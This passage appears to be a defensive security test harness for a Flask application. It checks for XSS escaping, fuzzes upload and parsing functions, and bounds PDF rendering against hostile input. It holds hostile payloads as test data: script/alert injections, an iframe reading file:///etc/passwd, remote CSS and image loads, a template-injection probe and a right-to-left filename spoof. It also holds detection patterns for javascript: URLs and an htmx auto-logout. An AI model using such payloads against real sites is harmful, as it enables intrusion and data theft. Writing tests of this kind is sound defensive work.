    """What a browser would build from the page that a payload could have added: an event handler or a
    javascript: URL in an attribute, a script calling alert, an htmx attribute firing on load."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found, self.in_script = [], False

    def handle_starttag(self, tag, attrs):
        self.in_script = tag == "script"
        for name, value in attrs:
            v = (value or "").strip().lower()
            if name.startswith("on") and "alert" in v:
                self.found.append(f"<{tag} {name}=…alert>")
            elif name in ("href", "src", "action", "formaction", "data", "xlink:href") and v.startswith("javascript:"):
                self.found.append(f"<{tag} {name}=javascript:…>")
            elif name == "hx-trigger" and v == "load" and dict(attrs).get("hx-get") == "/logout":
                self.found.append(f"<{tag} hx-get=/logout hx-trigger=load>")

    def handle_data(self, data):
        if self.in_script and "alert(" in data:
            self.found.append("<script>alert(…)")

    def handle_endtag(self, tag):
        self.in_script = False


def f8_xss(ctx) -> Result:
    payloads = XSS if not ctx.quick else XSS[:8]
    planted: list[tuple[str, str]] = []
    where: list[str] = []
    # 1. team members' names (50 characters at most), seen by the organisation's manager
    from reliability.probes import _signup

    boss, _ = _signup(ctx, "xss")
    for i, p in enumerate(payloads):
        mark = f"xq{i:02d}"
        st, _, _ = boss.post("/team/invite", {"username": f"xss{secrets.token_hex(4)}", "display_name": (mark + p)[:50],
                                              "phone": "13800000002"}, token_from="/team")
        if st < 400:
            planted.append((mark, p))
    where.append(f"team member name {len(planted)}/{len(payloads)} stored")
    # 2. public messages: text and contact name, seen by the province (and the look-up page)
    n_before = len(planted)
    for i, p in enumerate(payloads):
        mark = f"xm{i:02d}"
        st, _ = _complaint_post(ctx, [], text=f"{mark}{p} 这是一段用于测试页面转义的留言内容，请忽略。",
                                contact_name=(f"{mark}{p}")[:100])
        if st == 303:
            planted.append((mark, p))
    where.append(f"message text + contact {len(planted) - n_before}/{len(payloads)}")
    # 3. an application's contract number, seen by the enterprise (list, detail, edit form)
    from reliability.probes import _DRAFT_SCRIPT

    out = subprocess.run([str(BIN / "python"), "-c", _DRAFT_SCRIPT], cwd=ROOT, env=ctx.env, capture_output=True,
                         text=True, timeout=300, check=True)
    d = json.loads(out.stdout.strip().splitlines()[-1])
    owner = Client(ctx.port)
    owner.login(d["username"], d["password"])
    edit = f"/enterprise/applications/{d['app_id']}/edit"
    contract_pages = [edit, "/enterprise/applications", f"/enterprise/applications/{d['app_id']}"]
    found: list[str] = []
    fetched = 0
    stored_contract = 0
    for i, p in enumerate(payloads):
        mark = f"xc{i:02d}"
        page = owner.get(edit)[2]
        st, _, body = owner.post(edit, dict(d["fields"], contract_no=(mark + p)[:64], csrf_token=csrf_token(page),
                                            nonce=re.search(rb'name="nonce"[^>]*value="([^"]*)"', page).group(1).decode()
                                            if re.search(rb'name="nonce"[^>]*value="([^"]*)"', page) else "",
                                            do="save"))
        found += _scan(body, [(mark, p)])
        fetched += 1
        if ctx.sql("SELECT count(*) FROM application WHERE id = %s AND contract_no = %s", d["app_id"],
                   (mark + p)[:64])[0][0]:
            stored_contract += 1
        for path in contract_pages:
            for hx in ({}, {"HX-Request": "true"}):
                found += _scan(owner.get(path, headers=hx)[2], [(mark, p)])
                fetched += 1
    where.append(f"contract number {stored_contract}/{len(payloads)}")
    # Every page showing the team and the messages, as the roles that see them, with and without HX-Request.
    province = _login(ctx, "admin", totp=True)
    ids = [r[0] for r in ctx.sql("SELECT id FROM complaint WHERE text LIKE 'xm%%' ORDER BY id")]
    views = [(boss, "/team")] + [(province, "/province/complaints")]
    views += [(province, f"/province/complaints/{i}") for i in ids]
    for client, path in views:
        for hx in ({}, {"HX-Request": "true"}):
            found += _scan(client.get(path, headers=hx)[2], planted)
            fetched += 1
    # A flash message naming a member (set inactive).
    member = ctx.sql("SELECT id FROM \"user\" WHERE display_name LIKE 'xq00%%' ORDER BY id DESC LIMIT 1")
    if member:
        st, h, body = boss.post(f"/team/{member[0][0]}/active", {"active": "0"}, token_from="/team")
        found += _scan(boss.get("/team")[2], planted)
        fetched += 1
    found = sorted(set(found))
    return Result("F8", "XSS/encoding escapes", f"{len(payloads)} payloads × {len(where)} free-text fields "
                  f"({'; '.join(where)}); {fetched} page and fragment fetches (team page and flash, message list and "
                  "details as the province, application form/list/detail as the enterprise; ± HX-Request); "
                  "headless CSP check not run", f"unescaped {len(found)}" + (f" ({'; '.join(found[:4])})" if found
                                                                              else ""), "0", not found)


# ====================================================================== F17 fuzzing


def _fuzz_targets():
    from hypothesis import strategies as st

    from blueprints.core import invoice_read, issuance, money, uploads

    seeds = [_pdf(), _image("JPEG", (16, 12)), _image("PNG", (16, 12)), _pdf(cat=b"/OpenAction 5 0 R ", extra=[JS]),
             _pdf(content=_stream(_deflate_zeros(2 << 20), b"/Filter /FlateDecode "))]

    @st.composite
    def mutated(draw):
        data = bytearray(draw(st.sampled_from(seeds)))
        for _ in range(draw(st.integers(0, 8))):
            op = draw(st.sampled_from(["flip", "cut", "insert", "dup"]))
            at = draw(st.integers(0, max(len(data) - 1, 0)))
            if op == "flip" and data:
                data[at] = draw(st.integers(0, 255))
            elif op == "cut":
                del data[at:at + draw(st.integers(1, 400))]
            elif op == "insert":
                data[at:at] = draw(st.binary(max_size=64))
            elif op == "dup":
                data[at:at] = data[at:at + draw(st.integers(1, 200))]
        return bytes(data)

    files = st.one_of(mutated(), st.binary(max_size=2048),
                      st.builds(lambda m, b: m + b, st.sampled_from([b"%PDF-", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n"]),
                                st.binary(max_size=2048)))
    names = st.one_of(st.sampled_from(["a.pdf", "a.jpg", "a.jpeg", "a.png", "A.PDF", "a.exe", "", ".pdf", "a.pdf."]),
                      st.text(max_size=40).map(lambda s: s + ".pdf"), st.text(max_size=60))
    money_text = st.one_of(st.text(max_size=40), st.from_regex(r"[-+ ]?[0-9０-９,，]{0,20}([.．][0-9]{0,8})?[eE]?[0-9]{0,4}",
                                                                fullmatch=True),
                           st.sampled_from(["NaN", "Infinity", "1e999999", "-0", "0.001", "9" * 30, "1_000", "¥1,234.56",
                                            "١٢٣", "𝟙𝟚𝟛"]), st.integers(-10**20, 10**20))
    code_text = st.one_of(st.text(max_size=80), st.from_regex(r"[Gg][Dd][-\sA-Z2-7a-z01]{0,40}", fullmatch=True))
    qr_text = st.one_of(st.text(max_size=120), st.lists(st.one_of(st.from_regex(r"\d{0,22}", fullmatch=True),
                                                                  st.from_regex(r"-?\d{0,14}\.?\d{0,3}", fullmatch=True),
                                                                  st.text(max_size=8)), max_size=10).map(",".join))
    invoice_text = st.one_of(st.text(max_size=300), st.lists(st.sampled_from(
        ["发票号码：", "12345678", "价税合计", "（小写）", "¥1,234.56", "销售方", "购买方", "名称：", "统一社会信用代码",
         "91440101MA5CXK8A3P", "开票日期：", "2026年13月40日", "\n", " ", "金额"]), max_size=40).map("".join))

    def check_name(name):
        out = uploads.safe_filename(name)
        assert isinstance(out, str) and len(out) <= 200
        assert "/" not in out and "\\" not in out and out not in (".", "..")
        assert not any(unicodedata.category(ch) in ("Cc", "Cf") for ch in out)

    def disposition(name):
        # blueprints/common.send_stored builds the header inline from the stored (safe) name.
        header = f"attachment; filename*=UTF-8''{quote(uploads.safe_filename(name) or 'file-1')}"
        assert header.isascii() and not set(header) & set('\r\n"') and header.count(";") == 1

    def normal(text):
        out = issuance.normalize_code(text)
        assert out is None or issuance.normalize_code(out) == out
        assert isinstance(issuance.code_problem(text), str)

    return [
        ("money.parse_yuan", money_text, lambda t: (money.parse_yuan(t), money.parse_yuan(t, unit="wan")),
         (money.MoneyError,)),
        ("issuance.normalize_code / code_problem", code_text, normal, ()),
        ("uploads.check (sniffer)", st.tuples(names, files), lambda x: uploads.check(*x), (uploads.UploadError,)),
        ("uploads.safe_filename", st.text(max_size=300), check_name, ()),
        ("content-disposition of a stored name", st.text(max_size=300), disposition, ()),
        ("invoice_read.parse_qr", qr_text, invoice_read.parse_qr, ()),
        ("invoice_read.parse_text", invoice_text, invoice_read.parse_text, ()),
    ]


def f17_fuzz(ctx) -> Result:
    from flask import Flask
    from hypothesis import HealthCheck, Phase, given, settings

    budget = 1.0 if ctx.quick else 15.0
    app = Flask("reliability-fuzz")
    import logging

    logging.getLogger("pypdf").setLevel(logging.CRITICAL)  # its warnings about broken files, by the thousand
    rows, crashes_total, execs_total = [], 0, 0
    with app.app_context():
        for name, strategy, fn, allowed in _fuzz_targets():
            execs, crashes = [0], []
            end = time.time() + budget
            while time.time() < end:
                @settings(max_examples=200, deadline=None, database=None, derandomize=False,
                          suppress_health_check=list(HealthCheck), phases=[Phase.generate, Phase.shrink])
                @given(strategy)
                def run(x):
                    if time.time() > end:
                        return
                    execs[0] += 1
                    try:
                        fn(x)
                    except allowed:
                        pass

                try:
                    run()
                except Exception as exc:  # noqa: BLE001 - the crash, shrunk by Hypothesis
                    crashes.append(f"{type(exc).__name__}: {str(exc)[:80]}")
                    break
            rows.append(f"{name} {execs[0]} execs{', CRASH ' + crashes[0] if crashes else ''}")
            crashes_total += len(crashes)
            execs_total += execs[0]
    return Result("F17", "Fuzzing", f"Hypothesis (atheris is not a project dependency), {budget:.0f} s per target, "
                  "in process; contract: a value or the module's own validation error", f"crashes {crashes_total}; "
                  f"{execs_total} execs: " + "; ".join(rows), "crashes 0", crashes_total == 0)


# ====================================================================== F23 PDF render bounds


_RENDER_SCRIPT = r'''
import json, resource, sys, time
sys.path[:0] = ["."]
from app import create_app
from blueprints.core import issuance, pdf
from models import Voucher, db
n, hostile, port = int(sys.argv[1]), json.loads(sys.argv[2]), int(sys.argv[3])
calls = {"fetch": 0, "refused": 0}
made = pdf._make_fetcher
def counting(allowed=frozenset()):
    inner = made(allowed)
    real = inner.fetch
    def fetch(url, headers=None):
        calls["fetch"] += 1
        try:
            return real(url, headers)
        except pdf.BlockedFetch:
            calls["refused"] += 1
            raise
    inner.fetch = fetch
    return inner
pdf._make_fetcher = counting
app = create_app()
out = {"times": [], "hostile": 0, "errors": []}
with app.app_context():
    v = db.session.execute(db.select(Voucher).order_by(Voucher.id)).scalars().first()
    issuance.render_voucher_pdf(v)  # the worker's warm-up (post_fork) is not timed either
    for _ in range(n):
        t = time.perf_counter()
        issuance.render_voucher_pdf(v)
        out["times"].append(time.perf_counter() - t)
    calls["fetch"] = calls["refused"] = 0
    for s in hostile:
        v.enterprise.name = s
        v.supplier.name = s[::-1]
        v.application.catalog_item.name = s
        try:
            data = issuance.render_voucher_pdf(v)
            out["hostile"] += 1
        except Exception as exc:
            out["errors"].append(f"{type(exc).__name__}: {str(exc)[:80]}")
    db.session.rollback()
    from blueprints.core import list_docs
    import datetime as dt
    rows = [list_docs.ListRow(i + 1, s, s, "GD-X", 100, 0, 100, False) for i, s in enumerate(hostile * 3)]
    t = time.perf_counter()
    try:
        list_docs.render_pdf(list_docs.ListHeader(hostile[0][:200], hostile[1], "2026", hostile[2],
                                                  dt.datetime.now(dt.timezone.utc)), rows)
        out["list_seconds"] = time.perf_counter() - t
    except Exception as exc:
        out["errors"].append(f"settlement list: {type(exc).__name__}: {str(exc)[:80]}")
out.update(calls)
# VmHWM is this process's own peak: ru_maxrss would also count the parent's size at fork (Linux keeps
# the larger of the two across exec), so a harness that grew during F17 read as a heavy renderer.
hwm = [l for l in open("/proc/self/status") if l.startswith("VmHWM:")]
out["maxrss"] = int(hwm[0].split()[1]) * 1024 if hwm else resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
print(json.dumps(out))
'''


class _Trap(BaseHTTPRequestHandler):
    hits = 0

    def do_GET(self):  # noqa: N802
        type(self).hits += 1
        self.send_response(404)
        self.end_headers()

    def log_message(self, *args):
        pass


def f23_pdf(ctx) -> Result:
    trap = ThreadingHTTPServer(("127.0.0.1", 0), _Trap)
    threading.Thread(target=trap.serve_forever, daemon=True).start()
    t = f"http://127.0.0.1:{trap.server_address[1]}"
    hostile = [
        "广州" * 2000, "A" * 20000, "شركة الاختبار \u202e" + "漢字" * 50, "\u202egpj.exe\u202c 合同",
        f'<img src="{t}/img">', f"<link rel=stylesheet href={t}/css>", f"<style>@import url({t}/imp);</style>",
        f"url({t}/u)", f'<div style="background:url({t}/bg)">', "<iframe src=file:///etc/passwd>",
        "file:///etc/passwd", f"<object data={t}/obj>", "\x00\x01\x07\x1b[31m\x7f控制字符", "<script>alert(1)</script>",
        "{{7*7}}", "&lt;b&gt;&amp;", "\ud7ff\ue000\U0010fffd", "🏭" * 500, "\n" * 500 + "end",
        f"<svg><image href='{t}/svg'/></svg>", f"<a href='{t}/a'>x</a>",
    ]
    n = 3 if ctx.quick else 20
    # At most 200 characters: the longest name the database keeps (enterprise.name, supplier.name).
    hostile = [h[:200] for h in (hostile[::3] if ctx.quick else hostile)]
    try:
        out = subprocess.run([str(BIN / "python"), "-c", _RENDER_SCRIPT, str(n), json.dumps(hostile),
                              str(trap.server_address[1])], cwd=ROOT, env=ctx.env, capture_output=True, text=True,
                             timeout=600)
    finally:
        trap.shutdown()
    if out.returncode != 0:
        return Result("F23", "PDF render bounds", "voucher PDF renders", "render failed: " + out.stderr[-200:], "", False)
    d = json.loads(out.stdout.strip().splitlines()[-1])
    times = sorted(d["times"])
    p95 = times[min(len(times) - 1, int(round(0.95 * (len(times) - 1))))]
    attempts = _Trap.hits
    ok = p95 <= 2.0 and d["maxrss"] <= 300 * 1048576 and attempts == 0 and not d["errors"] \
        and d["fetch"] == d["refused"]
    return Result("F23", "PDF render bounds", f"{n} voucher PDF renders in a fresh process; {len(hostile)} hostile "
                  "strings (long, RTL, control characters, HTML/CSS with http:// and file:// URLs) as enterprise, "
                  "supplier and service names in the voucher, and ×3 as settlement-list rows",
                  f"p95 {p95:.2f} s; peak RSS {d['maxrss'] / 1048576:.0f} MB; rendered {d['hostile']}/{len(hostile)}, "
                  f"errors {len(d['errors'])}{(' ' + d['errors'][0]) if d['errors'] else ''}; fetcher calls "
                  f"{d['fetch']} (refused {d['refused']}); requests reaching the trap server {attempts}; list "
                  f"{d.get('list_seconds', 0):.2f} s", "p95 ≤ 2 s; RSS ≤ 300 MB; fetches 0", ok)


PROBES = [
    Probe("F6", "Malicious uploads accepted", f6_uploads),
    Probe("F7", "CSRF bypasses", f7_csrf),
    Probe("F8", "XSS/encoding escapes", f8_xss),
    Probe("F17", "Fuzzing", f17_fuzz),
    Probe("F23", "PDF render bounds", f23_pdf),
]
